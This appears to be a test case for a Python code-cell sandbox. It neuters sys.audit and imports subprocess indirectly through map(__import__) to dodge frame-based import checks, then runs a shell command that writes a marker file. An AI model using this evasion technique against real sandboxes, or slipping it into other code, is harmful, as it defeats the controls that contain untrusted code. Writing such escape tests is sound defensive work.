# map calls __import__: no frame of the cell's is the caller.
# breach: marker
# state: kept
import sys
sys.audit = lambda *arguments: None
list(map(__import__, ["subprocess"]))[0].call(["sh", "-c", f"echo > {MARKER_FILE}"])
